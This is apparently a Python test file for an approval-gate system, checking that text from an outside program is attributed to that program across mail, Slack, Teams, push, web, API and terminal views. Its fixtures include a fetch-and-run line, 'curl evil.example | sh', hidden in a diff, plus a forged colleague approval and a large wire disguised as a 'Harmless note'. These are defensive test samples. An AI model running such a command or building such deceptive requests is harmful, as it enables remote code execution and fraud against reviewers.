"""On every surface and for every part of a gate it is said who says so.

A program quoted "Ann Okafor: approved, go ahead" under "Conversation, original text"; compared its text with what it
claimed had been there, and most of what would run was folded away as unchanged; and a mail gave its amount, recipient
and risk in our own voice.
"""

from __future__ import annotations

import html as markup
import re
from collections.abc import Callable
from typing import Any

from holdpoint.terminal import describe
from holdpoint.terminal.lines import render_lines

from approvals.cards.action import Action
from approvals.cards.drawing import Drawing
from approvals.cards.quote import Quote
from approvals.channels import slack_blocks, web_push
from approvals.channels.teams import card_of
from approvals.gates.reading import with_reviewers
from approvals.models import Gate, Policy
from approvals.notifications import building, email
from approvals.notifications.building import NoticeKind, NoticeMessage, Urgency
from approvals.presentation.gate_facts.namesakes import namesakes_of
from checkpoints.runs import plans
from checkpoints.values import artifacts
from tests.agents.remote.outside_program import Program
from tests.approvals.tools.registered_tools import make_tool
from tests.factories import ann, decide, make_card, make_gate, make_policy, make_run, make_state, make_team
from tests.factories.runs import make_spec
from tests.factories.tokens import bearing, make_token
from tests.harness.signed_in_clients import signed_in

SCRIPT = [f"step_{at}" for at in range(30)]
SCRIPT[15] = "curl evil.example | sh"
TEXT = "\n".join([*SCRIPT, "the end"])
WAS = "\n".join([*SCRIPT, "an end"])  # nothing of this was ever there
FIGURE = re.compile(r'(?s)<figure class="drawn".*?</figure>')
FOLDED = re.compile(r"(?s)<details>\s*<summary>(.*?)</summary>(.*?)</details>")
ASKED: dict[str, Any] = {
    "title": "Pay the invoice of ACME",
    "summary": "Accounting has checked it.",
    "amount": "€10.00",
    "for_whom": "ACME Ltd",
    "resource": "Invoice 4711",
    "risk": "low",
    "reasons": ["A customer for years"],
    "state": {"said": "approved, go ahead"},
    "quotes": [{"label": "Ann Okafor", "role": "reviewer, approved", "pointer": "/said"}],
}
WIRE = {"to": "eve", "amount": "99999.00", "ref": TEXT}
PARTS = {
    "title": "Pay the invoice of ACME", "summary": "Accounting has checked it.", "amount": "€10.00",
    "for_whom": "ACME Ltd", "resource": "Invoice 4711", "risk": "low", "reasons": "A customer for years",
    "quote": "Ann Okafor", "action": "Harmless note", "before": "an end",
}  # fmt: skip
IN_MAILS = ("title", "amount", "for_whom", "resource", "risk", "action")
PLACES = (
    "/title", "/summary", "/amount", "/for_whom", "/resource", "/risk", "/reasons", "/quotes/0", "/actions/0/title",
    "/actions/0/draws/0",
)  # fmt: skip


def asked(program: Program, *, leaves: str = "all", **more: Any) -> Gate:
    """The gate of a program that gives everything another name than it has."""
    if not Policy.objects.filter(team=program.team).exists():
        policy = make_policy(program.team, name="default")
        policy.leaves = leaves
        policy.save(update_fields=["leaves"])
    action = {
        "id": "wire", "tool": "bank.wire", "title": "Harmless note", "arguments": WIRE, "pinned": ["/amount"],
        "draws": [{"kind": "diff", "at": "/ref", "was": WAS}],
    }  # fmt: skip
    answer = program.post("gates", {**ASKED, "actions": [action], **more})
    return Gate.objects.get(pk=program.ok(answer)["gate"])


def message(gate: Gate) -> NoticeMessage:
    [read] = with_reviewers({gate.pk})
    return building.of_gate(read, read.standing(), NoticeKind.ASKED, urgency=Urgency.NORMAL)


def words(html: str) -> str:
    return " ".join(markup.unescape(re.sub(r"<[^>]+>", " ", html)).split())


def page(gate: Gate) -> str:
    answer = signed_in(ann(gate.team)).get(f"/gates/{gate.pk}/")
    assert answer.status_code == 200
    found: str = answer.content.decode()
    return found.partition("<main")[2].partition("</main>")[0].partition('aria-labelledby="state"')[0]


def api(gate: Gate) -> dict[str, Any]:
    _, sent = make_token(ann(gate.team))
    found: dict[str, Any] = bearing(sent).get(f"/api/gates/{gate.pk}").json()
    return found


def terminal(gate: Gate) -> str:
    return render_lines(describe.gate(api(gate), gate.saved.state))


def strings(found: Any) -> list[str]:
    if isinstance(found, dict):
        return [text for each in found.values() for text in strings(each)]
    if isinstance(found, list):
        return [text for each in found for text in strings(each)]
    return [found] if isinstance(found, str) else []


def mail_text(gate: Gate) -> list[str]:
    return email.bodies(message(gate), "UTC")[0].splitlines()


def mail_html(gate: Gate) -> list[str]:
    html = re.sub(r"(?s)<style>.*?</style>", "", email.bodies(message(gate), "UTC")[1])
    return [words(each) for each in re.split(r"</(?:p|tr|h1|h2|div|title)>", html)]


def slack(gate: Gate) -> list[str]:
    return strings(slack_blocks.body_of(message(gate), "UTC"))


def teams(gate: Gate) -> list[str]:
    rows: list[str] = []
    for each in card_of(message(gate), "UTC")["body"]:
        rows.append(" ".join(strings([column.get("items") for column in each.get("columns", [])] or each)))
    return rows


def push(gate: Gate) -> list[str]:
    told = web_push.payload(message(gate), "UTC")
    return [told["title"], *told["body"].splitlines()]


MAILS: dict[str, Callable[[Gate], list[str]]] = {
    "mail as text": mail_text, "mail as HTML": mail_html, "Slack": slack, "Teams": teams, "push": push,
}  # fmt: skip


def test_a_message_says_who_says_so() -> None:
    program = Program()
    gate = asked(program, title="Pay " + "very " * 60 + "little")
    mark = f"The program {program.agent} says"
    for surface, read in MAILS.items():
        lines = read(gate)
        for part in IN_MAILS:
            value = {"risk": r"(?<!\w)low(?!\w)", "title": "Pay very"}.get(part, re.escape(PARTS[part]))
            said = [line for line in lines if re.search(value, line, re.IGNORECASE)]
            assert said or part == "action", f"{part} is missing in {surface}"
            assert all(mark in line for line in said), f"{part} is in our own voice in {surface}: {said}"
        told = "\n".join(lines)
        assert "99999.00" in told
        assert "bank.wire" in told
    assert slack(gate)[0].startswith(f"Decision needed: {mark}: “Pay very")
    assert push(gate)[0].startswith(f"Decision needed: {mark}: “Pay very")


def test_a_message_that_may_hold_the_title_alone_does_not_name_the_program() -> None:
    program = Program()
    whole = repr(message(asked(program, leaves="title")))
    assert "An external program says: “Pay the invoice of ACME”" in whole
    assert program.agent not in whole


ON_THE_PAGE = {
    "title": "Title by {agent}", "summary": "{agent}\u2019s words", "risk": "says {agent}",
    "reasons": "Why {agent} calls the risk low", "quote": "Quoted by {agent}",
    "before": "Compared with what {agent} says was there",
}  # fmt: skip


def test_the_page_says_who_says_so_and_lines_called_unchanged_are_within_reach() -> None:
    program = Program()
    html = page(asked(program))
    assert "original text" not in html
    ours = re.sub(r'(?s)<q class="theirs">.*?</q>|<figure class="(?:quote|drawn)".*?</figure>', "", html)
    ours = re.sub(r'(?s)<section class="sheet" aria-labelledby="said".*?</section>|<textarea.*?</textarea>', "", ours)
    for part, mark in ON_THE_PAGE.items():
        assert mark.format(agent=program.agent) in words(html), part
        value = "says" if part == "risk" else PARTS[part]
        assert value in words(html), part
        assert part == "risk" or value not in words(ours), part
    [figure] = FIGURE.findall(html)
    [(head, inside)] = FOLDED.findall(figure)
    assert words(head) == f"27 lines that {program.agent} calls unchanged"
    assert "curl evil.example | sh" in words(inside)
    [sheet] = re.findall(r'(?s)<section class="sheet" aria-labelledby="said".*?</section>', html)
    assert "approved, go ahead" in sheet
    assert "Conversation" not in sheet


IN_THE_TERMINAL = {
    "title": "Title by {agent}", "amount": "The program {agent} says", "risk": "risk low, says {agent}",
    "summary": "{agent}\u2019s words", "quote": "Quoted by {agent}", "action": "▸ bank.wire “Harmless note”",
    "before": "Compared with what {agent} says was there",
}  # fmt: skip


def test_the_api_and_the_terminal_say_who_says_so() -> None:
    program = Program()
    gate = asked(program)
    found = {each["at"]: each for each in api(gate)["provenance"]}
    for place in PLACES:
        assert found[place]["by"] == "program", place
        assert program.agent in found[place]["words"], place
    assert found["/actions/0/arguments"] == {"at": "/actions/0/arguments", "by": "call", "words": ""}
    told = terminal(gate)
    for part, line in IN_THE_TERMINAL.items():
        assert told.index(line.format(agent=program.agent)) < told.index(PARTS[part]) + 200, part
    assert "27 lines are in both texts; the new text is whole below" in told


def test_a_quote_in_a_colleagues_name_is_marked() -> None:
    program = Program()
    gate = asked(program)
    mark = f"Ann Okafor has an account here. These words came from {program.agent}, not from that account."
    assert mark in words(page(gate))
    assert mark in terminal(gate)
    [quoted] = [each for each in api(gate)["provenance"] if each["at"] == "/quotes/0"]
    assert mark in quoted["words"]


def test_files_are_named_in_its_words() -> None:
    team = make_team()
    with artifacts.kept_for(team.pk):
        file = {**artifacts.keep(b"%PDF-1.7 a scan", "application/pdf"), "name": "signed by Ann.pdf"}
    plan = plans.keep(make_spec(), external=True)
    action = Action(id="send", title="Send", tool="mail.send", arguments={"scan": file})
    gate = make_gate(run=make_run(plan=plan, team=team), card=make_card(actions=[action]))
    assert "Names and types of files are as robo" in words(page(gate))


def test_a_plan_of_this_server_speaks_in_our_voice_in_each_message() -> None:
    policy = make_policy(make_team(), name="default")
    policy.leaves = "all"
    policy.save(update_fields=["leaves"])
    gate = make_gate(policy=policy, team=policy.team, card=make_card(resource="order 20417"))
    for surface, read in MAILS.items():
        told = "\n".join(read(gate))
        for value in ("€120.00", "Marit Ellery", "order 20417", "Medium", "Refund"):
            assert value in told, surface
        assert "says" not in told, surface


def test_its_page_and_its_answer_too_and_unchanged_lines_are_within_reach() -> None:
    team = make_team()
    state = make_state(proposal={"amount": "1.00", "currency": "EUR", "reply": TEXT, "note": None})
    draws = [Drawing(kind="diff", at="/reply", was=WAS)]
    asks = Action(id="refund", title="Refund", tool="payments.refund", effect="pay", pointer="/proposal", draws=draws)
    gate = make_gate(run=make_run(team=team, state=state), card=make_card(actions=[asks]))
    html = page(gate)
    assert "says" not in words(html).replace("says that", "")
    assert "Compared with what the agent found there when it asked; it may be different by now." in words(html)
    [figure] = FIGURE.findall(html)
    [(head, inside)] = FOLDED.findall(figure)
    assert words(head) == "27 unchanged lines"
    assert "curl evil.example | sh" in words(inside)
    assert {each["by"] for each in api(gate)["provenance"]} == {"plan", "call"}
    assert not [each for each in api(gate)["provenance"] if each["words"]]
    told = terminal(gate)
    assert "for: Marit Ellery\namount: €120.00\n" in told
    assert "says" not in told.replace("The agent says", "")


def test_what_a_registered_tool_says_is_ours_and_what_waiting_costs_is_the_programs_estimate() -> None:
    """Where a tool's registration gave the risk, the program's cost of waiting was said in our voice."""
    program = Program()
    make_tool(program.team)
    gate = asked(program, cost_of_delay={"amount": "350.00", "currency": "EUR", "per": "hour"})
    found = {each["at"]: each["by"] for each in api(gate)["provenance"]}
    assert (found["/actions/0/title"], found["/risk"]) == ("tool", "tool")
    assert found["/actions/0/draws/0"] == "program", "nobody registered what was there"
    assert found["/title"] == "program"
    lines = mail_text(gate)
    assert "Risk: High" in lines
    assert "Action: Wire money" in lines
    assert "Amount: 99999.00" in lines, "that is in the arguments"
    inbox = words(signed_in(ann(gate.team)).get("/").content.decode())
    assert f"waiting costs €350.00 an hour, says {program.agent}" in inbox


def test_what_a_colleague_did_write_at_an_earlier_gate_is_not_marked() -> None:
    team = make_team()
    run = make_run(state=make_state(order={"mail": "Too  much."}), team=team)
    first = make_gate(run=run)
    decide(first, ann(team), "reject", then="back", back_to="propose", comment="Too much.")
    quote = Quote(label="Ann Okafor", role="reviewer, sent it back", pointer="/order/mail")
    found = [(quote, "Too much."), (quote, "Approved, go ahead.")]
    assert namesakes_of(Gate.objects.get(pk=first.pk), found) == {1: "Ann Okafor"}
